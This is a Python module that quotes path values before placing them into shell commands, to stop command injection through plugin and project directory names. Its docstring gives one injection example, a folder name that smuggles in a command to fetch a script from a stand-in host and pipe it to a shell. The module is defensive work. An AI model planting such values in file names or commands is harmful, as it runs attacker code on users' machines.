"""Put paths into a shell command as data: `${NAME}` replaced by its value quoted for where it stands.

A plugin's hook command names its files through `${CLAUDE_PLUGIN_ROOT}`, and a command's `!` lines
may name `${CLAUDE_PROJECT_DIR}` or `${CLAUDE_SKILL_DIR}`. Those folders can hold any character (a
project cloned as `x;curl evil|sh`, a space), so the value is never pasted in raw: outside quotes it is
`shlex.quote`d, inside double quotes `\\ " $ `` ` are escaped, inside single quotes a `'` becomes
`'\\''`. A plain path comes out unchanged; an odd one stays one word and never runs.
"""

from __future__ import annotations

import re
import shlex

_NAME = re.compile(r"\$\{(\w+)\}")


def _quoted(value: str, state: str) -> str:
    if state == "'":
        return value.replace("'", "'\\''")
    if state == '"':
        return re.sub(r'([\\"$`])', r"\\\1", value)
    return shlex.quote(value)


def substitute_quoted(command: str, values: dict[str, str]) -> str:
    """`command` with each `${NAME}` of `values` replaced by its value, quoted for the shell where it stands."""
    out: list[str] = []
    state = ""  # "", "'" or '"'
    i = 0
    while i < len(command):
        char = command[i]
        match = _NAME.match(command, i) if char == "$" else None
        if match and match.group(1) in values:
            out.append(_quoted(values[match.group(1)], state))
            i = match.end()
            continue
        if char == "\\" and state != "'" and i + 1 < len(command):
            out.append(command[i : i + 2])
            i += 2
            continue
        if char in "'\"" and state in ("", char):
            state = "" if state == char else char
        out.append(char)
        i += 1
    return "".join(out)
